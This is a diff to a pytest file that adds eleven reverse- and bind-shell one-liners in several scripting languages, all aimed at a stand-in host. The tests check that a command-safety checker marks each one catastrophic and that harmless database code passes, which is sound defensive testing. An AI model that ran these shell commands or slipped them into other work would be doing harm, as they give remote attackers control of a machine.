@@ -240,6 +240,41 @@ def test_catastrophes_are_denied(command: str) -> None:
     assert found.reasons
 
 
+# Shells whose input and output are a connection, in the languages that interpreters take on their command line.
+REVERSE_SHELLS = [
+    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("h.example",1));os.dup2(s.fileno(),0);subprocess.call(["sh"])\'',
+    'python3 -c \'import socket as a,os;s=a.create_connection(("h.example",1));os.dup2(s.fileno(),0);os.execl("/bin/sh","sh")\'',
+    "python3 -c 'import socket,subprocess;s=socket.socket();s.listen(1);c,a=s.accept();subprocess.Popen(\"sh\",stdin=c)'",
+    'perl -e \'use Socket;connect(S,sockaddr_in(1,inet_aton("h.example")));open(STDIN,">&S");exec("/bin/sh -i");\'',
+    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h.example:1\");STDIN->fdopen($c,r);system$_ while<>;'",
+    'php -r \'$s=fsockopen("h.example",1);shell_exec("sh <&3");\'',
+    'ruby -rsocket -e \'f=TCPSocket.open("h.example",1).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
+    "ruby -rsocket -e 'Socket.tcp(\"h.example\",1){|c| while l=c.gets; c.print `#{l}`; end}'",
+    'node -e \'require("net").connect(1,"h.example",function(){this.pipe(require("child_process").spawn("sh").stdin)})\'',
+    "awk 'BEGIN{s=\"/inet/tcp/0/h.example/1\";while(1){s |& getline c;while((c |& getline)>0)print |& s}}'",
+    'lua -e \'t=require("socket").tcp();t:connect("h.example",1);os.execute("/bin/sh -i <&3 >&3")\'',
+]
+
+
+@pytest.mark.parametrize("command", REVERSE_SHELLS)
+def test_code_that_hands_a_shell_to_a_connection_is_denied(command: str) -> None:
+    assert opinion(command).catastrophic
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import sqlite3; print(sqlite3.connect(':memory:').execute('select 1').fetchall())",
+        "import sqlite3, subprocess; subprocess.run(['ls']); sqlite3.connect('t.db').executescript('select 1')",
+        "import psycopg2; psycopg2.connect(host='db.example.net').cursor().execute('select 1')",
+        "import socket, subprocess; print(socket.gethostname()); subprocess.run(['ls'])",
+    ],
+)
+def test_code_that_opens_a_database_hands_a_shell_to_nobody(code: str) -> None:
+    assert not opinion(f'python3 -c "{code}"').catastrophic
+    assert not opinion(f"python3 - <<'EOF'\n{code}\nEOF").catastrophic
+
+
 @pytest.mark.parametrize(
     "command",
     [
